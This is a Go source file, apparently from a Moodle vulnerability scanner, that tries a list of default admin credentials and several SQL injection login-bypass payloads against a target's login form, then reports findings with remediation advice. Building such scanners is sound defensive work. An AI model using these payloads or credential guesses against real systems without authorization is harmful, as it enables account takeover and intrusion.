package moodle

import (
	"context"
	"fmt"

	"github.com/moodlesec/moodlescan/pkg/auth/common"
)

// Credential is one username/password pair tried by the weak-credentials
// check, with a description used in the finding evidence.
type Credential struct {
	Username    string
	Password    string
	Description string
}

// testCredentials is tried in order; the first working pair wins.
var testCredentials = []Credential{
	{Username: "admin", Password: "admin", Description: "default admin credentials"},
	{Username: "admin", Password: "password", Description: "simple admin password"},
	{Username: "admin", Password: "Password123", Description: "common admin password"},
	{Username: "admin", Password: "moodle", Description: "product name as password"},
	{Username: "guest", Password: "", Description: "empty guest password"},
	{Username: "admin", Password: "changeme", Description: "temporary default password"},
}

// sqlPayload is one login-form injection attempt.
type sqlPayload struct {
	Username string
	Password string
	Type     string
}

var sqlInjectionPayloads = []sqlPayload{
	// Comment-based bypasses
	{Username: "admin' --", Password: "anything", Type: "comment"},
	{Username: "admin' #", Password: "anything", Type: "comment"},
	{Username: "admin'/*", Password: "anything", Type: "comment"},

	// OR-based bypasses
	{Username: "admin' OR '1'='1' --", Password: "anything", Type: "or_condition"},
	{Username: "' OR '1'='1' --", Password: "anything", Type: "or_condition"},
	{Username: "' OR 1=1 --", Password: "anything", Type: "or_condition"},
	{Username: "admin' OR 1=1 #", Password: "anything", Type: "or_condition"},

	// Whitespace obfuscation
	{Username: "admin'/**/OR/**/1=1/**/--", Password: "anything", Type: "obfuscation"},
	{Username: "admin'%20OR%201=1%20--", Password: "anything", Type: "obfuscation"},

	// UNION-based attempts
	{Username: "' UNION SELECT 'admin','password' --", Password: "anything", Type: "union"},
}

// testCommonCredentials tries the fixed credential list in order and returns
// the first pair that authenticates, or nil.
func (s *Scanner) testCommonCredentials(ctx context.Context) *Credential {
	s.logger.Info("Testing for common/default credentials...")

	for i := range testCredentials {
		creds := &testCredentials[i]
		if s.AttemptLogin(ctx, creds.Username, creds.Password) {
			s.logger.Warn("Found working common credentials",
				"username", creds.Username, "password", creds.Password)
			return creds
		}
	}

	s.logger.Info("No common credentials worked")
	return nil
}

// testSQLInjectionBypass submits each injection payload through the login
// primitive and reports the first one the target accepts as a login.
func (s *Scanner) testSQLInjectionBypass(ctx context.Context) *common.Finding {
	s.logger.Info("Testing for SQL injection authentication bypass...")

	for _, payload := range sqlInjectionPayloads {
		if s.AttemptLogin(ctx, payload.Username, payload.Password) {
			s.logger.Warn("SQL injection authentication bypass successful",
				"payload", payload.Username, "type", payload.Type)
			return &common.Finding{
				Title:       "SQL Injection Authentication Bypass",
				Description: "The Moodle login form is vulnerable to SQL injection, allowing attackers to bypass authentication.",
				Severity:    common.SeverityCritical,
				Evidence:    fmt.Sprintf("Successfully authenticated using SQL injection payload: %s", payload.Username),
				Remediation: "Update to the latest Moodle version and ensure proper input validation is in place.",
			}
		}
	}

	s.logger.Info("No SQL injection authentication bypass vulnerabilities found")
	return nil
}
